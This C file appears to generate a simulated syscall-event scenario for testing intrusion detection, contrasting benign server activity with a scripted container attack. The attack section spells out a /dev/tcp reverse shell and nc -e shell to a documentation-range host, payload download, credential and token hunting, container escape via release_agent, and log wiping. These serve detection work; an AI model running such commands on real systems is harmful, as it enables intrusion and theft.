/* SPDX-License-Identifier: Apache-2.0 */
/* The tale itself, act by act. */
#include "demo/tale.h"

#include <errno.h>

#define TERMINAL_1 34817 /* pts/1 */
#define TERMINAL_2 34818
#define AF_PACKET_FAMILY 17
#define PTRACE_TRACEME_REQUEST 1
#define PTRACE_ATTACH_REQUEST 11

static const struct line reverse_shell = {
	{10, 244, 1, 17}, {203, 0, 113, 66}, .sport = 51834, .dport = 4444};

/* ---- a night like any other ---- */

static void serve(struct scene *s, struct actor *worker, uint8_t customer, const char *path,
	uint32_t flags, int error)
{
	const struct line l = {{198, 51, 100, customer}, {10, 244, 1, 17},
		.sport = (uint16_t)(40000 + customer * 17), .dport = 80};
	int client = scene_accept(s, worker, &l), fd;

	scene_wait(s, 2);
	scene_read(s, worker, client, "GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n");
	fd = scene_open(s, worker, path, flags, error);
	if (fd >= 0) {
		scene_read(s, worker, fd, "<!DOCTYPE html><title>Shop</title>");
		scene_close(s, worker, fd);
	}
	scene_write(
		s, worker, client, fd < 0 ? "HTTP/1.1 403 Forbidden\r\n" : "HTTP/1.1 200 OK\r\n");
	scene_close(s, worker, client);
}

/* cron and its jobs read and write what would be suspicious in other hands. */
static void nightly_jobs(struct scene *s, const struct cast *c)
{
	struct actor *job = scene_fork(s, c->cron, NULL), *sh, *cmd;
	int fd;

	scene_look(s, job, "/etc/pam.d/cron", "@include common-auth\n");
	scene_look(s, job, "/etc/shadow", "root:*:");
	sh = scene_run(s, job,
		(struct image){.path = "/usr/bin/dash",
			.file = "/bin/sh",
			.args = WORDS("-c\0run-parts /etc/cron.daily")});
	cmd = scene_run(s, sh,
		(struct image){
			.path = "/usr/sbin/logrotate", .args = WORDS("/etc/logrotate.conf")});
	scene_look(s, cmd, "/etc/logrotate.conf", "weekly\nrotate 4\n");
	EVENT_OF(s, cmd, EV_RENAME_X, N(0), T("/var/log/syslog"), T("/var/log/syslog.1"));
	fd = scene_open(s, cmd, "/var/log/syslog", O_WRITE | O_CREATE, 0);
	scene_close(s, cmd, fd);
	scene_exit(s, cmd, 0);
	cmd = scene_run(s, sh,
		(struct image){
			.path = "/usr/bin/find", .args = WORDS("/tmp\0-mtime\0+10\0-delete")});
	scene_exit(s, cmd, 0);
	scene_exit(s, sh, 0);
	scene_exit(s, job, 0);
}

/* A login over ssh: the server's child, and the shell under it. */
static struct actor *login(struct scene *s, const struct cast *c, uint32_t uid,
	const char *shell_args, uint32_t tty, const char *cwd)
{
	struct actor *session = scene_fork(s, c->sshd, NULL), *shell;

	scene_look(s, session, "/etc/shadow", "root:*:");
	shell = scene_fork(s, session, NULL);
	shell->uid = shell->gid = shell->loginuid = uid;
	shell->tty = tty;
	shell->cwd = cwd;
	shell->sid = shell->pgid = shell->vpgid = shell->pid;
	EVENT_OF(s, shell, EV_SETSID_X, N(shell->pid));
	EVENT_OF(s, shell, EV_SETGID_X, N(0), N(uid));
	EVENT_OF(s, shell, EV_SETUID_X, N(0), N(uid));
	EVENT_OF(s, shell, EV_CHDIR_X, N(0), T(cwd));
	scene_exec(s, shell,
		(struct image){.path = "/usr/bin/bash",
			.file = "/bin/bash",
			.argv0 = "-bash",
			.args = shell_args ? str_n(shell_args, strlen(shell_args) + 1) : NO_WORDS});
	return shell;
}

static void administrator(struct scene *s, const struct cast *c)
{
	struct actor *shell = login(s, c, 1001, NULL, TERMINAL_1, "/home/mira/"), *cmd;
	int fd;

	scene_look(s, shell, "/home/mira/.bashrc", "alias ll='ls -l'\n");
	cmd = scene_run(s, shell,
		(struct image){.path = "/usr/bin/ls", .argv0 = "ls", .args = WORDS("-l")});
	scene_exit(s, cmd, 0);
	cmd = scene_run(s, shell,
		(struct image){.path = "/usr/bin/grep",
			.argv0 = "grep",
			.args = WORDS("error\0/var/log/syslog")});
	scene_look(s, cmd, "/var/log/syslog", "Mar 14 02:10:03 shop-node-1 CRON[1533]: ...");
	scene_exit(s, cmd, 1);
	fd = scene_open(s, shell, "/home/mira/notes.txt", O_WRITE | O_CREATE | O_APPENDING, 0);
	scene_write(s, shell, fd, "checked the logs\n");
	scene_close(s, shell, fd);
	scene_exit(s, shell, 0);
}

void tale_quiet(struct scene *s, const struct cast *c)
{
	static const struct line database = {
		{10, 244, 1, 17}, {10, 244, 2, 9}, .sport = 42310, .dport = 5432};
	int fd;

	for (uint8_t i = 1; i <= 6; i++) {
		serve(s, c->worker, i, "/usr/local/apache2/htdocs/index.html", O_READ | O_CLOSING,
			0);
		scene_wait(s, 400);
	}
	fd = scene_connect(s, c->worker, &database, 0);
	scene_write(s, c->worker, fd, "Q\0\0\0\031SELECT * FROM articles");
	scene_close(s, c->worker, fd);
	nightly_jobs(s, c);
	administrator(s, c);
}

/* ---- in through the web server ---- */

static void probe(struct scene *s, const struct cast *c)
{
	serve(s, c->worker, 77, "/usr/local/apache2/icons/../../../../etc/passwd",
		O_READ | O_CLOSING, 0);
	scene_wait(s, 900);
	serve(s, c->worker, 77, "/usr/local/apache2/icons/../../../../root/.ssh/id_rsa",
		O_READ | O_CLOSING, -2);
	scene_wait(s, 1200);
}

/* The request runs a shell, which turns itself into one that answers to a far host. */
static struct actor *break_in(struct scene *s, const struct cast *c)
{
	struct actor *sh, *bash;
	int fd;

	sh = scene_run(s, c->worker,
		(struct image){.path = "/usr/bin/dash",
			.file = "/bin/sh",
			.args = WORDS("-c\0bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'")});
	scene_wait(s, 10);
	bash = scene_run(s, sh,
		(struct image){.path = "/usr/bin/bash",
			.argv0 = "bash",
			.args = WORDS("-c\0bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")});
	fd = scene_connect(s, bash, &reverse_shell, 0);
	scene_dup2(s, bash, fd, 1);
	scene_dup2(s, bash, 1, 2);
	scene_dup2(s, bash, 1, 0);
	scene_close(s, bash, fd);
	scene_exec(s, bash,
		(struct image){.path = "/usr/bin/bash", .argv0 = "bash", .args = WORDS("-i")});
	return bash;
}

static void command(struct scene *s, const struct actor *shell, const char *path, struct str args,
	const char *reads, const char *content)
{
	const char *slash = strrchr(path, '/');
	struct actor *cmd = scene_run(s, shell,
		(struct image){.path = path,
			.argv0 = slash + 1,
			.args = args,
			.flags = shell->place->is_container ? EXE_LOWER_LAYER : 0});

	if (reads)
		scene_look(s, cmd, reads, content);
	scene_exit(s, cmd, 0);
	scene_wait(s, 700);
}

static void look_around(struct scene *s, struct actor *shell)
{
	static const struct line api = {
		{10, 244, 1, 17}, {10, 96, 0, 1}, .sport = 38114, .dport = 443};
	static const char token[] = "/var/run/secrets/kubernetes.io/serviceaccount/token";
	struct actor *curl;
	int fd;

	command(s, shell, "/usr/bin/id", NO_WORDS, "/etc/passwd",
		"root:x:0:0:root:/root:/bin/bash\n");
	command(s, shell, "/usr/bin/cat", WORDS("/etc/shadow"), "/etc/shadow",
		"root:*:19000:0:99999:7:::\n");
	command(s, shell, "/usr/bin/find", WORDS("/\0-name\0id_rsa*"), NULL, NULL);
	command(s, shell, "/usr/bin/grep", WORDS("-rl\0BEGIN OPENSSH PRIVATE KEY\0/home\0/srv"),
		NULL, NULL);
	command(s, shell, "/usr/bin/grep", WORDS("-ri\0aws_secret_access_key\0/srv"),
		"/srv/shop/settings.py", "DATABASE = 'postgres://10.244.2.9/shop'\n");
	curl = scene_run(s, shell,
		(struct image){.path = "/usr/bin/curl",
			.argv0 = "curl",
			.args = WORDS("-k\0https://10.96.0.1/api/v1/namespaces/ops/pods"),
			.flags = EXE_LOWER_LAYER});
	scene_look(s, curl, token, "eyJhbGciOiJSUzI1NiIsImtpZCI6");
	fd = scene_connect(s, curl, &api, 0);
	scene_close(s, curl, fd);
	scene_exit(s, curl, 0);
}

/* ---- tools ---- */

static void drop(struct scene *s, struct actor *shell, const char *path)
{
	struct actor *curl = scene_run(s, shell,
		(struct image){.path = "/usr/bin/curl",
			.argv0 = "curl",
			.args = WORDS("-so\0.k\0http://203.0.113.66/k"),
			.flags = EXE_LOWER_LAYER});
	int fd = scene_open(s, curl, path, O_WRITE | O_CREATE | O_TRUNCATE, 0);

	scene_write(s, curl, fd, "\177ELF\2\1\1");
	scene_close(s, curl, fd);
	scene_exit(s, curl, 0);
	EVENT_OF(s, shell, EV_CHMOD_X, N(0), T(path), N(0755));
	scene_wait(s, 300);
}

static void ptrace_event(struct scene *s, const struct actor *a, unsigned request, int64_t pid)
{
	static const struct str nothing = {"\0\0\0\0\0\0\0\0\0", 9};

	EVENT_OF(s, a, EV_PTRACE_X, N(0), B(nothing), B(nothing), N(request), N(pid));
}

/* A miner that watches for debuggers, listens on the wire, and hides in the web server. */
static void run_tools(struct scene *s, struct actor *shell, const struct actor *victim)
{
	struct actor *miner, *second;
	int fd;

	drop(s, shell, "/tmp/.k");
	miner = scene_run(s, shell,
		(struct image){.path = "/tmp/.k",
			.argv0 = "[kworker/u8:2]",
			.flags = EXE_WRITABLE | EXE_UPPER_LAYER});
	ptrace_event(s, miner, PTRACE_TRACEME_REQUEST, 0);
	scene_socket(s, miner, AF_PACKET_FAMILY, 3, 768);
	ptrace_event(s, miner, PTRACE_ATTACH_REQUEST, victim->vpid);
	drop(s, shell, "/dev/shm/.k");
	second = scene_run(s, shell,
		(struct image){
			.path = "/dev/shm/.k", .argv0 = "[kworker/u8:3]", .flags = EXE_WRITABLE});
	fd = scene_memfd(s, second, "stage2");
	scene_write(s, second, fd, "\177ELF\2\1\1");
	scene_exec(s, second,
		(struct image){.path = "memfd:stage2",
			.file = "/proc/self/fd/3",
			.argv0 = "sshd: /usr/sbin/sshd -D",
			.flags = EXE_WRITABLE | EXE_FROM_MEMFD});
	scene_exit(s, second, 0);
	command(s, shell, "/usr/bin/nc.traditional", WORDS("-e\0/bin/sh\000203.0.113.66\0005555"),
		NULL, NULL);
	scene_exit(s, miner, 0);
}

/* Ways to the same secrets that need no shell: links below the site, and the server's own settings.
 */
static void plant_links(struct scene *s, const struct cast *c, struct actor *shell)
{
	static const char site[] = "/usr/local/apache2/htdocs/";
	struct actor *ln;
	int fd;

	ln = scene_run(s, shell,
		(struct image){.path = "/usr/bin/ln",
			.argv0 = "ln",
			.args = WORDS("-s\0/etc/shadow\0/usr/local/apache2/htdocs/fonts.txt"),
			.flags = EXE_LOWER_LAYER});
	EVENT_OF(s, ln, EV_SYMLINKAT_X, N(0), T("/etc/shadow"), N(AT_CWD),
		T("/usr/local/apache2/htdocs/fonts.txt"));
	scene_exit(s, ln, 0);
	ln = scene_run(s, shell,
		(struct image){.path = "/usr/bin/ln",
			.argv0 = "ln",
			.args = WORDS("/etc/shadow\0/tmp/s"),
			.flags = EXE_LOWER_LAYER});
	EVENT_OF(s, ln, EV_LINKAT_X, N(0), N(AT_CWD), T("/etc/shadow"), N(AT_CWD), T("/tmp/s"),
		N(0));
	scene_exit(s, ln, 0);
	scene_chdir(s, shell, site);
	fd = scene_open(s, shell, ".htaccess", O_WRITE | O_CREATE | O_TRUNCATE, 0);
	scene_write(s, shell, fd, "AuthUserFile /etc/shadow\n");
	scene_close(s, shell, fd);
	scene_wait(s, 1500);
	serve(s, c->worker, 77, "/etc/shadow", O_READ | O_CLOSING, 0);
}

/* Out through a port that every firewall lets pass. */
static void dig_tunnel(struct scene *s, struct actor *shell)
{
	static const struct line out = {
		{10, 244, 1, 17}, {203, 0, 113, 66}, .sport = 40022, .dport = 443};
	struct actor *ssh = scene_run(s, shell,
		(struct image){.path = "/usr/bin/ssh",
			.argv0 = "ssh",
			.args = WORDS("-fNR\0002222:127.0.0.1:22\0-p\000443\0k@203.0.113.66"),
			.flags = EXE_LOWER_LAYER});
	int fd = scene_connect(s, ssh, &out, -EINPROGRESS);

	scene_write(s, ssh, fd, "SSH-2.0-OpenSSH_9.2\r\n");
	scene_close(s, ssh, fd);
	scene_exit(s, ssh, 0);
}

/* ---- over to the container that may do everything ---- */

static void escape(struct scene *s, const struct cast *c)
{
	static const char agent_file[] = "/sys/fs/cgroup/rdma/release_agent";
	struct actor *runc = scene_run(s, c->backup_shim,
		(struct image){.path = "/usr/bin/runc",
			.args = WORDS("--root\0/run/containerd/runc/k8s.io\0exec\0" BACKUP_ID)});
	struct actor *shell = scene_fork(s, runc, &backup), *cmd;
	int fd;

	shell->tty = TERMINAL_2;
	shell->sid = shell->pgid = shell->pid;
	shell->vpgid = shell->vpid;
	scene_exec(s, shell,
		(struct image){.path = "/usr/bin/bash", .argv0 = "bash", .flags = EXE_LOWER_LAYER});
	runc->reaper = c->backup_shim->pid;
	scene_exit(s, runc, 0);
	scene_wait(s, 4000);
	cmd = scene_run(s, shell,
		(struct image){.path = "/usr/sbin/debugfs",
			.argv0 = "debugfs",
			.args = WORDS("-w\0/dev/sda1"),
			.flags = EXE_LOWER_LAYER});
	scene_exit(s, cmd, 0);
	fd = scene_open(s, shell, agent_file, O_WRITE | O_CREATE | O_TRUNCATE, 0);
	scene_write(s, shell, fd, "/tmp/.k\n");
	scene_close(s, shell, fd);
	cmd = scene_run(s, shell,
		(struct image){.path = "/usr/sbin/insmod",
			.argv0 = "insmod",
			.args = WORDS("/tmp/kmon.ko"),
			.flags = EXE_LOWER_LAYER});
	fd = scene_open(s, cmd, "/tmp/kmon.ko", O_READ | O_CLOSING, 0);
	EVENT_OF(s, cmd, EV_FINIT_MODULE_X, N(0), N(fd), T(""), N(0));
	scene_exit(s, cmd, 0);
	scene_exit(s, shell, 0);
}

/* ---- and onto the node ---- */

static void wipe_traces(struct scene *s, const struct cast *c)
{
	struct actor *shell = login(s, c, 33, "-i", TERMINAL_2, "/var/www/");
	struct actor *cmd = scene_run(s, shell,
		(struct image){
			.path = "/usr/bin/sudo", .argv0 = "sudo", .args = WORDS("-n\0bash")});
	struct actor *root;
	int fd;

	scene_look(s, cmd, "/etc/sudoers", "www-data ALL=(ALL) NOPASSWD: ALL\n");
	root = scene_fork(s, cmd, NULL);
	root->uid = root->gid = 0;
	EVENT_OF(s, root, EV_SETUID_X, N(0), N(0));
	scene_exec(s, root, (struct image){.path = "/usr/bin/bash", .argv0 = "bash"});
	fd = scene_open(s, root, "/var/log/auth.log", O_WRITE | O_CREATE | O_TRUNCATE, 0);
	scene_close(s, root, fd);
	command(s, root, "/usr/bin/shred", WORDS("-u\0/var/log/wtmp"), NULL, NULL);
	scene_exit(s, root, 0);
	scene_exit(s, cmd, 0);
	scene_exit(s, shell, 0);
}

void tale_attack(struct scene *s, const struct cast *c)
{
	struct actor *shell;

	scene_wait(s, 61 * 1000);
	probe(s, c);
	shell = break_in(s, c);
	look_around(s, shell);
	scene_wait(s, 24 * 1000);
	run_tools(s, shell, c->worker);
	plant_links(s, c, shell);
	dig_tunnel(s, shell);
	scene_wait(s, 130 * 1000);
	escape(s, c);
	scene_wait(s, 47 * 1000);
	wipe_traces(s, c);
}

void tale_morning(struct scene *s, const struct cast *c)
{
	scene_wait(s, 2000);
	serve(s, c->worker, 9, "/usr/local/apache2/htdocs/index.html", O_READ | O_CLOSING, 0);
}
